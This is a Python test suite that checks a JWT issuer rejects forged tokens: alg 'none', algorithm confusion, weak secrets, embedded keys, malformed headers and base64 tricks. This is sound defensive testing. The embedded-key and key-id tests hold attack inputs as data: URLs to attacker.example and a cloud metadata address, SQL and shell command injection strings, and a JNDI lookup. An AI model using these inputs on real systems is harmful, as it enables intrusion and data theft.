"""Tokens cannot be forged without the key: published vectors, known classes of attack, and random changes.

The classes of attack come from RFC 8725, section 2 (JSON Web Token Best Current Practices) and the CVEs named below.
"""

import base64
import hashlib
import hmac
import itertools
import json
import re
import string
import time
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import attrs
import jwt
import pytest
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from hypothesis import given, settings
from hypothesis import strategies as st

from mlapi import InvalidTokenError, UserId
from mlapi.adapters.jwt import JwtTokenIssuer
from mlapi.domain.credentials import TokenClaims
from mlapi.testing import SettableClock
from mlapi.testing.tokens import ADA, HOUR, NOON, decode_part, encode_part, is_rejected, sign_parts
from tests.conftest import KEY, OLDER_KEY

VECTORS: dict[str, Any] = json.loads((Path(__file__).parents[1] / "data" / "forged_tokens.json").read_text("utf-8"))
KEY_BYTES, OLDER_KEY_BYTES = base64.urlsafe_b64decode(KEY), base64.urlsafe_b64decode(OLDER_KEY)


def make_issuer(*keys: bytes) -> JwtTokenIssuer:
    return JwtTokenIssuer(keys, lifetime=HOUR, issuer="mlapi", audience="mlapi", clock=SettableClock())


TOKENS = make_issuer(KEY_BYTES, OLDER_KEY_BYTES)
HEADER = TOKENS.issue(ADA).token.split(".")[0]
CLAIMS: dict[str, Any] = {
    "iss": "mlapi",
    "aud": "mlapi",
    "sub": "7",
    "iat": int(NOON.timestamp()),
    "exp": int(NOON.timestamp()) + 3600,
    "jti": "0123456789abcdef0123456789abcdef",
    "epoch": ADA.token_epoch,
}
PAYLOAD = encode_part(json.dumps(CLAIMS, separators=(",", ":")))
SIGNED_PART = f"{HEADER}.{PAYLOAD}"
VALID = sign_parts(HEADER, PAYLOAD, KEY_BYTES)
SIGNATURE = VALID.split(".")[2]
HEADER_FIELDS: dict[str, Any] = json.loads(decode_part(HEADER))
KEY_ID = HEADER_FIELDS["kid"]
BASE64URL = string.ascii_uppercase + string.ascii_lowercase + string.digits + "-_"


def find_accepted(forged: list[str]) -> list[str]:
    """Return the forged tokens that are accepted while the valid token is cached. The list should be empty."""
    TOKENS.verify(VALID)
    return [token for token in forged if not is_rejected(TOKENS, token)]


def encode_header(**fields: object) -> str:
    return encode_part(json.dumps(fields, separators=(",", ":")))


def parametrize_tokens(cases: dict[str, str]) -> pytest.MarkDecorator:
    return pytest.mark.parametrize("token", cases.values(), ids=cases.keys())


def test_genuine_token_is_accepted() -> None:
    claims = TOKENS.verify(VALID)

    assert claims == TokenClaims(
        user_id=ADA.id, token_epoch=ADA.token_epoch, expires_datetime=NOON + HOUR, token_id=CLAIMS["jti"]
    )


# --- published vectors


@pytest.mark.parametrize(("source", "key", "token"), VECTORS["genuine"], ids=[row[0] for row in VECTORS["genuine"]])
def test_published_tokens_have_valid_signatures_but_are_rejected(source: str, key: str, token: str) -> None:
    algorithm = jwt.get_unverified_header(token)["alg"]
    published = VECTORS["keys"][key]

    # Otherwise, the token might be rejected only because of a copying mistake.
    jwt.PyJWS().decode(token, jwt.PyJWK(published, algorithm=algorithm).key, algorithms=[algorithm])
    assert is_rejected(TOKENS, token)
    if published["kty"] == "oct":
        assert is_rejected(make_issuer(decode_part(published["k"])), token), source


@pytest.mark.parametrize(("source", "key", "token"), VECTORS["others"], ids=[row[0] for row in VECTORS["others"]])
def test_published_forgeries_are_rejected(source: str, key: str | None, token: str) -> None:
    published = {} if key is None else VECTORS["keys"][key]

    assert is_rejected(TOKENS, token)
    if published.get("kty") == "oct":
        assert is_rejected(make_issuer(decode_part(published["k"])), token), source


# --- no signature: RFC 8725, 2.1


def test_algorithm_none_is_rejected_in_any_spelling() -> None:
    spellings = ["".join(letters) for letters in itertools.product(*zip("none", "NONE", strict=True))]
    spellings += ["", "None ", " none", "none\0", "n\u0000one", "nonе", "null"]  # one has a Cyrillic e
    headers = [
        header
        for spelling in spellings
        for header in (encode_header(alg=spelling), encode_header(alg=spelling, kid=KEY_ID, typ="JWT"))
    ]
    forged = [
        token
        for header in headers
        for token in (
            f"{header}.{PAYLOAD}.",
            f"{header}.{PAYLOAD}",
            f"{header}.{PAYLOAD}.{SIGNATURE}",
            sign_parts(header, PAYLOAD, b""),
            sign_parts(header, PAYLOAD, KEY_BYTES),
        )
    ]

    assert find_accepted(forged) == []


NO_ALGORITHM: dict[str, object] = {
    "null": None,
    "false": False,
    "zero": 0,
    "list": ["HS256"],
    "object": {"HS256": 1},
    "empty": "",
}


@pytest.mark.parametrize("algorithm", NO_ALGORITHM.values(), ids=NO_ALGORITHM.keys())
def test_invalid_algorithm_values_are_rejected(algorithm: object) -> None:
    header = encode_header(alg=algorithm, kid=KEY_ID, typ="JWT")

    assert find_accepted([sign_parts(header, PAYLOAD, KEY_BYTES), f"{header}.{PAYLOAD}."]) == []


@parametrize_tokens(
    {
        "empty signature": f"{HEADER}.{PAYLOAD}.",
        "no signature": f"{HEADER}.{PAYLOAD}",
        "no algorithm": sign_parts(encode_header(kid=KEY_ID, typ="JWT"), PAYLOAD, KEY_BYTES),
        "no algorithm, unsigned": f"{encode_header(kid=KEY_ID, typ='JWT')}.{PAYLOAD}.",
        "empty header": sign_parts(encode_header(), PAYLOAD, KEY_BYTES),
        "no header": sign_parts("", PAYLOAD, KEY_BYTES),
        "signature of zeros": f"{HEADER}.{PAYLOAD}.{encode_part(bytes(32))}",
        "signature of ones": f"{HEADER}.{PAYLOAD}.{encode_part(bytes([255]) * 32)}",
        "signature as hex": f"{HEADER}.{PAYLOAD}.{decode_part(SIGNATURE).hex()}",
        "signature truncated to 16 bytes": f"{HEADER}.{PAYLOAD}.{encode_part(decode_part(SIGNATURE)[:16])}",
        "signature with an extra byte": f"{HEADER}.{PAYLOAD}.{encode_part(decode_part(SIGNATURE) + bytes(1))}",
        "digest without a key": f"{SIGNED_PART}.{encode_part(hashlib.sha256(SIGNED_PART.encode()).digest())}",
        "signature of the payload": f"{SIGNED_PART}.{encode_part(hmac.digest(KEY_BYTES, PAYLOAD.encode(), 'sha256'))}",
    }
)
def test_missing_or_partial_signature_is_rejected(token: str) -> None:
    assert find_accepted([token]) == []


# --- another algorithm, or another kind of key: RFC 8725, 2.1; CVE-2015-9235, CVE-2016-10555, CVE-2022-29217


@pytest.mark.parametrize(
    ("algorithm", "digest"), [("HS384", "sha384"), ("HS512", "sha512"), ("HS1", "sha1"), ("hs256", "sha256")]
)
def test_other_algorithms_with_the_right_key_are_rejected(algorithm: str, digest: str) -> None:
    header = encode_header(alg=algorithm, kid=KEY_ID, typ="JWT")

    assert (
        find_accepted(
            [sign_parts(header, PAYLOAD, KEY_BYTES, digest), sign_parts(HEADER, PAYLOAD, KEY_BYTES, "sha512")]
        )
        == []
    )


@pytest.fixture(scope="module")
def rsa_key() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(65537, 2048)


@pytest.fixture(scope="module")
def ec_key() -> ec.EllipticCurvePrivateKey:
    return ec.generate_private_key(ec.SECP256R1())


def list_encodings(key: rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey) -> Iterator[bytes]:
    """Return all encodings of a public key that could be mistaken for an HMAC secret."""
    public = key.public_key()
    formats = serialization.PublicFormat
    for encoding in (serialization.Encoding.PEM, serialization.Encoding.DER):
        yield public.public_bytes(encoding, formats.SubjectPublicKeyInfo)
    yield public.public_bytes(serialization.Encoding.OpenSSH, formats.OpenSSH)
    if isinstance(public, rsa.RSAPublicKey):
        yield public.public_bytes(serialization.Encoding.PEM, formats.PKCS1)
        jwk: dict[str, Any] = jwt.algorithms.RSAAlgorithm.to_jwk(public, as_dict=True)
    else:
        yield public.public_bytes(serialization.Encoding.X962, formats.UncompressedPoint)
        jwk = jwt.algorithms.ECAlgorithm.to_jwk(public, as_dict=True)
    yield json.dumps(jwk).encode()
    yield json.dumps(jwk, separators=(",", ":"), sort_keys=True).encode()
    yield str(jwk.get("n", jwk.get("x"))).encode()


def test_public_key_as_hmac_secret_is_rejected(rsa_key: rsa.RSAPrivateKey, ec_key: ec.EllipticCurvePrivateKey) -> None:
    secrets = [
        secret
        for key in (rsa_key, ec_key)
        for form in list_encodings(key)
        for secret in (form, form.strip(), form + b"\n", hashlib.sha256(form).digest())
    ]
    headers = [
        HEADER,
        encode_header(alg="HS256"),
        encode_header(alg="HS256", typ="JWT"),
        encode_header(alg="RS256", kid=KEY_ID),
    ]

    assert find_accepted([sign_parts(header, PAYLOAD, secret) for header in headers for secret in secrets]) == []


def test_signature_of_a_foreign_key_pair_is_rejected(
    rsa_key: rsa.RSAPrivateKey, ec_key: ec.EllipticCurvePrivateKey
) -> None:
    pairs: list[tuple[str, rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey]] = [
        ("RS256", rsa_key),
        ("PS256", rsa_key),
        ("ES256", ec_key),
    ]
    forged = [
        jwt.encode(CLAIMS, key, algorithm, headers=headers)
        for algorithm, key in pairs
        for headers in ({"kid": KEY_ID}, {"kid": KEY_ID, "alg": algorithm, "typ": "JWT"}, None)
    ]
    under_our_header = rsa_key.sign(f"{HEADER}.{PAYLOAD}".encode(), padding.PKCS1v15(), hashes.SHA256())
    forged += [
        f"{HEADER}.{PAYLOAD}.{encode_part(under_our_header)}",
        f"{HEADER}.{PAYLOAD}.{encode_part(under_our_header[:32])}",
    ]

    assert find_accepted(forged) == []


@pytest.mark.parametrize("algorithm", ["ES256", "ES384", "ES512", "HS256"])
def test_psychic_signature_is_rejected(algorithm: str) -> None:
    """CVE-2022-21449: r and s are zero, in both encodings."""
    headers = [encode_header(alg=algorithm), encode_header(alg=algorithm, kid=KEY_ID, typ="JWT")]
    signatures = [bytes(64), bytes(96), bytes(132), bytes.fromhex("3006020100020100"), bytes(32)]

    assert (
        find_accepted([f"{header}.{PAYLOAD}.{encode_part(zeros)}" for header in headers for zeros in signatures]) == []
    )


# --- weak secrets: RFC 8725, 2.2

GUESSES: list[bytes] = [
    *(b"", b"\0", bytes(32), b"\0" * 64, b" ", b"secret", b"password", b"changeme", b"key", b"jwt", b"123456"),
    *(b"your-256-bit-secret", b"null", b"undefined", b"None", b"mlapi", KEY_ID.encode(), HEADER.encode()),
    *(KEY.encode(), KEY.rstrip("=").encode(), KEY_BYTES.hex().encode(), KEY_BYTES[:16], KEY_BYTES[:31]),
    *(KEY_BYTES[::-1], KEY_BYTES + b"\n", KEY_BYTES + KEY_BYTES, hashlib.sha256(KEY_BYTES).digest()),
]


def test_guessed_and_partial_secrets_are_rejected() -> None:
    headers = [HEADER, encode_header(alg="HS256"), encode_header(alg="HS256", typ="JWT")]

    assert find_accepted([sign_parts(header, PAYLOAD, guess) for header in headers for guess in GUESSES]) == []


# --- keys embedded in the token: RFC 8725, 2.10 (and 3.10); CVE-2018-0114


def test_key_in_the_token_is_ignored(rsa_key: rsa.RSAPrivateKey) -> None:
    oct_jwk = {"kty": "oct", "k": encode_part(b"a secret of the attacker's, long."), "kid": KEY_ID, "alg": "HS256"}
    rsa_jwk = {**jwt.algorithms.RSAAlgorithm.to_jwk(rsa_key.public_key(), as_dict=True), "kid": KEY_ID}
    der = rsa_key.public_key().public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    embedded_keys: list[dict[str, object]] = [
        {"jwk": oct_jwk},
        {"jwk": rsa_jwk},
        {"jwk": {"keys": [oct_jwk]}},
        {"jku": "https://attacker.example/jwks.json"},
        {"jku": "file:///dev/null"},
        {"jku": "https://mlapi@attacker.example/.well-known/jwks.json"},
        {"x5u": "https://attacker.example/chain.pem"},
        {"x5u": "http://169.254.169.254/latest/meta-data"},
        {"x5c": [base64.b64encode(der).decode()]},
        {"x5t": encode_part(hashlib.sha1(der).digest())},
        {"x5t#S256": encode_part(hashlib.sha256(der).digest())},
    ]
    forged = []
    for given_key in embedded_keys:
        for algorithm in ("HS256", "RS256"):
            header = encode_header(alg=algorithm, kid=KEY_ID, typ="JWT", **given_key)
            rsa_signature = rsa_key.sign(f"{header}.{PAYLOAD}".encode(), padding.PKCS1v15(), hashes.SHA256())
            forged += [
                sign_parts(header, PAYLOAD, decode_part(oct_jwk["k"])),
                sign_parts(header, PAYLOAD, KEY_BYTES),
                f"{header}.{PAYLOAD}.{encode_part(rsa_signature)}",
            ]

    assert find_accepted(forged) == []


# --- key ids used for injection: RFC 8725, 3.10

KEY_IDS: dict[str, object] = {
    "path": "../../../../../../dev/null",
    "absolute path": "/dev/null",
    "Windows path": "..\\..\\nul",
    "file": "file:///proc/sys/kernel/randomize_va_space",
    "SQL": "' UNION SELECT 'key' -- ",
    "more SQL": f"{KEY_ID}' OR '1'='1",
    "command": "key; sleep 9 |",
    "template": "${jndi:ldap://attacker.example/a}",
    "NUL": f"{KEY_ID}\0",
    "line break": f"{KEY_ID}\n",
    "upper case": KEY_ID.upper(),
    "space": f" {KEY_ID}",
    "empty": "",
    "null": None,
    "list": [KEY_ID],
    "empty list": [],
    "object": {"kid": KEY_ID},
    "number": 0,
    "long number": 10**40,
    "true": True,
    "long": "a" * 10_000,
    "invalid Unicode": "\ud800",
    "unknown id": "0" * 16,
}


@pytest.mark.parametrize("key_id", KEY_IDS.values(), ids=KEY_IDS.keys())
def test_key_id_never_selects_another_secret(key_id: object) -> None:
    header = encode_header(alg="HS256", kid=key_id, typ="JWT")
    secrets = [b"", b"\n", b"0", b"2\n", b"key", KEY_BYTES, OLDER_KEY_BYTES, str(key_id).encode("utf-8", "replace")]

    assert find_accepted([sign_parts(header, PAYLOAD, secret) for secret in secrets]) == []


def test_header_and_signature_must_use_the_same_key() -> None:
    older = make_issuer(OLDER_KEY_BYTES).issue(ADA).token
    header, payload, _ = older.split(".")

    assert not is_rejected(TOKENS, older)
    assert find_accepted([sign_parts(header, payload, KEY_BYTES), sign_parts(HEADER, payload, OLDER_KEY_BYTES)]) == []


# --- the right key with another header


def sign_header(header: str) -> str:
    return sign_parts(encode_part(header), PAYLOAD, KEY_BYTES)


RIGHT_KEY_WRONG_HEADER = {
    "no key id": '{"alg":"HS256","typ":"JWT"}',
    "only the algorithm": '{"alg":"HS256"}',
    "no type": f'{{"alg":"HS256","kid":"{KEY_ID}"}}',
    "other field order": f'{{"typ":"JWT","alg":"HS256","kid":"{KEY_ID}"}}',
    "reversed field order": f'{{"typ":"JWT","kid":"{KEY_ID}","alg":"HS256"}}',
    "white space": f'{{"alg": "HS256", "kid": "{KEY_ID}", "typ": "JWT"}}',
    "leading space": f' {{"alg":"HS256","kid":"{KEY_ID}","typ":"JWT"}}',
    "trailing line break": f'{{"alg":"HS256","kid":"{KEY_ID}","typ":"JWT"}}\n',
    "byte order mark": f'\ufeff{{"alg":"HS256","kid":"{KEY_ID}","typ":"JWT"}}',
    "trailing NUL": f'{{"alg":"HS256","kid":"{KEY_ID}","typ":"JWT"}}\0',
    "escaped value": f'{{"alg":"\\u0048S256","kid":"{KEY_ID}","typ":"JWT"}}',
    "escaped name": f'{{"\\u0061lg":"HS256","kid":"{KEY_ID}","typ":"JWT"}}',
    "lower-case type": f'{{"alg":"HS256","kid":"{KEY_ID}","typ":"jwt"}}',
    "access token type (RFC 9068)": f'{{"alg":"HS256","kid":"{KEY_ID}","typ":"at+jwt"}}',
    "additional field": f'{{"alg":"HS256","kid":"{KEY_ID}","typ":"JWT","x":1}}',
    "upper-case field names": f'{{"ALG":"HS256","KID":"{KEY_ID}","TYP":"JWT"}}',
    "algorithm twice, none first": f'{{"alg":"none","alg":"HS256","kid":"{KEY_ID}","typ":"JWT"}}',
    "algorithm twice, none last": f'{{"alg":"HS256","kid":"{KEY_ID}","typ":"JWT","alg":"none"}}',
    "duplicate algorithm": f'{{"alg":"HS256","alg":"HS256","kid":"{KEY_ID}","typ":"JWT"}}',
    "duplicate key id": f'{{"alg":"HS256","kid":"x","kid":"{KEY_ID}","typ":"JWT"}}',
    "critical, unknown": f'{{"alg":"HS256","kid":"{KEY_ID}","typ":"JWT","crit":["x"],"x":1}}',
    "critical, empty": f'{{"alg":"HS256","kid":"{KEY_ID}","typ":"JWT","crit":[]}}',
    "critical, null": f'{{"alg":"HS256","kid":"{KEY_ID}","typ":"JWT","crit":null}}',
    "critical, known": f'{{"alg":"HS256","kid":"{KEY_ID}","typ":"JWT","crit":["alg"]}}',
    "payload not encoded (RFC 7797)": f'{{"alg":"HS256","kid":"{KEY_ID}","typ":"JWT","b64":false,"crit":["b64"]}}',
    "payload not encoded, not critical": f'{{"alg":"HS256","kid":"{KEY_ID}","typ":"JWT","b64":false}}',
    "explicitly encoded payload": f'{{"alg":"HS256","kid":"{KEY_ID}","typ":"JWT","b64":true,"crit":["b64"]}}',
    "nested": f'{{"alg":"HS256","kid":"{KEY_ID}","typ":"JWT","cty":"JWT"}}',
    "compressed": f'{{"alg":"HS256","kid":"{KEY_ID}","typ":"JWT","zip":"DEF"}}',
    "encrypted": f'{{"alg":"dir","enc":"A256GCM","kid":"{KEY_ID}","typ":"JWT"}}',
    "claim in the header": f'{{"alg":"HS256","kid":"{KEY_ID}","typ":"JWT","sub":"1"}}',
    "list": f'[{{"alg":"HS256","kid":"{KEY_ID}","typ":"JWT"}}]',
    "string": '"HS256"',
    "null": "null",
    "deeply nested": "[" * 100_000,
    "long": f'{{"alg":"HS256","kid":"{KEY_ID}","typ":"JWT","x":"{"a" * 100_000}"}}',
    "not JSON": "HS256",
}


@pytest.mark.parametrize("header", RIGHT_KEY_WRONG_HEADER.values(), ids=RIGHT_KEY_WRONG_HEADER.keys())
def test_other_headers_with_the_right_key_are_rejected(header: str) -> None:
    assert find_accepted([sign_header(header)]) == []


def test_text_around_a_valid_token_is_rejected() -> None:
    nested = encode_header(alg="HS256", kid=KEY_ID, typ="JWT", cty="JWT")
    zipped = encode_header(alg="HS256", kid=KEY_ID, typ="JWT", zip="DEF")
    deflated = zlib.compress(decode_part(PAYLOAD), wbits=-15)
    forms = [
        sign_parts(nested, encode_part(VALID), KEY_BYTES),
        sign_parts(HEADER, encode_part(VALID), KEY_BYTES),
        sign_parts(HEADER, encode_part(json.dumps(VALID)), KEY_BYTES),
        sign_parts(zipped, encode_part(deflated), KEY_BYTES),
        sign_parts(HEADER, encode_part(deflated), KEY_BYTES),
        encode_part(VALID),
        json.dumps({"payload": PAYLOAD, "protected": HEADER, "signature": SIGNATURE}),
        json.dumps({"payload": PAYLOAD, "signatures": [{"protected": HEADER, "signature": SIGNATURE}]}),
        json.dumps(VALID),
        f"'{VALID}'",
        f"<{VALID}>",
        f"Bearer {VALID}",
        f"token={VALID}",
        f"{VALID},{VALID}",
        f"{VALID} {VALID}",
        VALID + VALID,
    ]

    assert find_accepted(forms) == []


# --- bad base64: RFC 7515, 2 (no padding, no white space, nothing else), and RFC 4648, 3.5 (canonical)


def list_noncanonical(part: str) -> list[str]:
    """Return variants with non-zero unused base64 bits, which decode to the same bytes."""
    ends = [part[:-1] + character for character in BASE64URL]
    return [other for other in ends if other != part and decode_part(other) == decode_part(part)]


def test_only_canonical_base64_is_accepted() -> None:
    header, payload, signature = HEADER, PAYLOAD, SIGNATURE
    while not list_noncanonical(payload):  # the user's id determines the length of the payload
        longer = attrs.evolve(ADA, id=UserId(int(f"{json.loads(decode_part(payload))['sub']}7")))
        header, payload, signature = TOKENS.issue(longer).token.split(".")
    variants = [
        *(f"{other}.{payload}.{signature}" for other in list_noncanonical(header)),
        *(f"{header}.{other}.{signature}" for other in list_noncanonical(payload)),
        *(f"{header}.{payload}.{other}" for other in list_noncanonical(signature)),
        *(sign_parts(other, payload, KEY_BYTES) for other in list_noncanonical(header)),
    ]

    assert not is_rejected(TOKENS, f"{header}.{payload}.{signature}")
    assert [len(list_noncanonical(part)) for part in (header, signature)] == [15, 3]
    assert find_accepted(variants) == []


INSERTED = [
    "=",
    "==",
    "+",
    "/",
    " ",
    "\n",
    "\r\n",
    "\t",
    "\0",
    "\x7f",
    "%3D",
    "%00",
    "\u200b",
    "\ufeff",
    "\xa0",
    "é",
    ".",
]


@pytest.mark.parametrize("inserted", INSERTED, ids=repr)
def test_inserted_characters_are_rejected(inserted: str) -> None:
    positions = range(len(VALID) + 1)

    assert find_accepted([VALID[:position] + inserted + VALID[position:] for position in positions]) == []


def test_other_base64_alphabet_or_letter_case_is_rejected() -> None:
    token = VALID
    while not {"-", "_"} <= set(token):  # tokens contain random characters
        token = TOKENS.issue(ADA).token
    forged = [
        token.replace("-", "+").replace("_", "/"),
        token.replace("-", "+"),
        token.replace("_", "/"),
        token.replace("-", "_"),
        token.upper(),
        token.lower(),
        token.swapcase(),
        token[:1].upper() + token[1:],
        token.replace(".", "．"),
        token.replace(".", "。"),
        token.replace("e", "ｅ"),
        token.replace("0", "٠"),
        token.translate({ord("a") + position: 0x1D41A + position for position in range(26)}),
    ]

    assert not is_rejected(TOKENS, token)
    assert find_accepted(forged) == []


def test_wrong_separators_are_rejected() -> None:
    five = f"{HEADER}.{encode_part(bytes(32))}.{encode_part(bytes(12))}.{PAYLOAD}.{encode_part(bytes(16))}"
    forged = [
        VALID.replace(".", "%2E"),
        VALID.replace(".", "%2e"),
        quote(VALID, safe="").replace(".", "%2E"),
        "".join(f"%{ord(character):02X}" for character in VALID),
        *(VALID.replace(".", other) for other in ("", "..", ",", ":", "~", " ", "\n", "|", "\0", "/", "%00.")),
        *(
            f"{before}{VALID}{after}"
            for before in ("", ".", "..", " ")
            for after in ("", ".", "..", " ")
            if before + after
        ),
        *(HEADER, f"{HEADER}.{PAYLOAD}", f"{PAYLOAD}.{SIGNATURE}", f"{HEADER}.{SIGNATURE}"),
        *(f"{VALID}.{SIGNATURE}", f"{VALID}.{VALID}", f"{HEADER}.{VALID}", five),
    ]

    assert find_accepted(forged) == []


# --- changed, truncated, long and mixed tokens


def test_any_flipped_bit_is_rejected() -> None:
    forged = [
        VALID[:position] + chr(ord(character) ^ 1 << bit) + VALID[position + 1 :]
        for position, character in enumerate(VALID)
        for bit in range(9)
    ]

    assert find_accepted(forged) == []


def test_any_changed_character_is_rejected() -> None:
    forged = [
        VALID[:position] + other + VALID[position + 1 :]
        for position, character in enumerate(VALID)
        for other in BASE64URL
        if other != character
    ]

    assert find_accepted(forged) == []


def test_truncated_token_is_rejected() -> None:
    forged = [cut for position in range(len(VALID)) for cut in (VALID[:position], VALID[position + 1 :])]
    forged += [VALID[:position] + VALID[position + 1 :] for position in range(len(VALID))]
    forged += [VALID[:position] + VALID[position] + VALID[position:] for position in range(len(VALID))]

    assert find_accepted(forged) == []


MIB = 2**20
LONG: dict[str, Callable[[], str]] = {
    "letters": lambda: "a" * MIB,
    "dots": lambda: "." * MIB,
    "three parts": lambda: f"{'a' * MIB}.{'b' * MIB}.{'c' * MIB}",
    "long payload after the header": lambda: f"{HEADER}.{'a' * MIB}.{SIGNATURE}",
    "long claim signed with the right key": lambda: sign_parts(
        HEADER, encode_part(json.dumps({"sub": "7" * MIB})), KEY_BYTES
    ),
    "long signature": lambda: f"{HEADER}.{PAYLOAD}.{SIGNATURE * (MIB // 43)}",
    "text after a valid token": lambda: VALID + "a" * MIB,
    "valid token many times": lambda: VALID * (MIB // len(VALID)),
    "text before a valid token": lambda: "a" * MIB + VALID,
    "many parts": lambda: "a." * (MIB // 2),
    "not ASCII": lambda: "é" * MIB,
    "NULs": lambda: "\0" * MIB,
}


@pytest.mark.parametrize("make", LONG.values(), ids=LONG.keys())
def test_long_token_is_rejected_quickly(make: Callable[[], str]) -> None:
    token = make()

    begin = time.process_time()
    accepted = find_accepted([token] * 3)
    cost = time.process_time() - begin

    assert accepted == []
    assert cost < 0.5


def test_mixed_parts_of_valid_tokens_are_rejected() -> None:
    people = [ADA, attrs.evolve(ADA, id=UserId(8)), attrs.evolve(ADA, token_epoch="f" * 16)]
    good = [TOKENS.issue(user).token for user in people] + [make_issuer(OLDER_KEY_BYTES).issue(ADA).token]
    parts = [token.split(".") for token in good]
    mixed = {".".join(chosen) for chosen in itertools.product(*zip(*parts, strict=True))} - set(good)
    rearranged = {".".join(order) for token in parts for order in itertools.permutations(token) if list(order) != token}

    assert [is_rejected(TOKENS, token) for token in good] == [False] * 4
    assert find_accepted(sorted(mixed | rearranged)) == []


@pytest.mark.parametrize(
    ("claim", "value"),
    [("sub", "1"), ("sub", "8"), ("exp", 2**31), ("epoch", "f" * 16), ("aud", "other"), ("admin", True)],
)
def test_changed_claim_with_the_old_signature_is_rejected(claim: str, value: object) -> None:
    changed = json.dumps({**CLAIMS, claim: value}, separators=(",", ":"))

    assert find_accepted([f"{HEADER}.{encode_part(changed)}.{SIGNATURE}"]) == []


# --- random input

EDITS = st.lists(
    st.tuples(
        st.sampled_from(["replace", "insert", "delete"]),
        st.integers(0, len(VALID) - 1),
        st.one_of(st.sampled_from(BASE64URL + ".="), st.characters()),
    ),
    min_size=1,
    max_size=5,
)
WELL_FORMED = st.from_regex(re.compile(r"[\w-]{1,80}\.[\w-]{1,80}\.[\w-]{43}", re.ASCII), fullmatch=True)
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=5), children, max_size=3),
    max_leaves=5,
)


@given(st.one_of(st.text(), WELL_FORMED, st.text(alphabet=BASE64URL + ".", max_size=400)))
@settings(deadline=None)
def test_arbitrary_text_raises_only_invalid_token_error(text: str) -> None:
    assert is_rejected(TOKENS, text)


@given(EDITS)
@settings(deadline=None)
def test_any_change_to_a_valid_token_is_rejected(edits: list[tuple[str, int, str]]) -> None:
    changed = VALID
    for kind, position, character in edits:
        rest = changed[position + (kind != "insert") :]
        changed = changed[:position] + ("" if kind == "delete" else character) + rest

    assert is_rejected(TOKENS, changed) == (changed != VALID)


@given(
    header=st.one_of(JSON.map(json.dumps), st.text()), payload=st.binary(max_size=300), signature=st.binary(max_size=40)
)
@settings(deadline=None)
def test_any_token_made_without_the_key_is_rejected(header: str, payload: bytes, signature: bytes) -> None:
    encoded_header = encode_part(header.encode("utf-8", "surrogatepass"))
    forged = [
        f"{part}.{encode_part(payload)}.{encode_part(end)}"
        for part in (encoded_header, HEADER)
        for end in (signature, (signature + bytes(32))[:32])
    ]

    assert find_accepted(forged) == []


@given(payload=st.one_of(st.binary(max_size=300), JSON.map(lambda value: json.dumps(value).encode())))
@settings(deadline=None)
def test_any_signed_payload_raises_only_invalid_token_error(payload: bytes) -> None:
    assert is_rejected(TOKENS, sign_parts(HEADER, encode_part(payload), KEY_BYTES))


@given(name=st.sampled_from(["iss", "aud", "sub", "iat", "exp", "jti", "epoch"]), value=JSON)
@settings(deadline=None)
def test_arbitrary_signed_claim_is_rejected_or_parsed(name: str, value: object) -> None:
    token = sign_parts(HEADER, encode_part(json.dumps({**CLAIMS, name: value})), KEY_BYTES)

    try:
        claims = TOKENS.verify(token)
    except InvalidTokenError:
        claims = None

    assert claims is None or (name == "sub" and str(claims.user_id) == value) or name in {"iat", "exp", "jti", "epoch"}
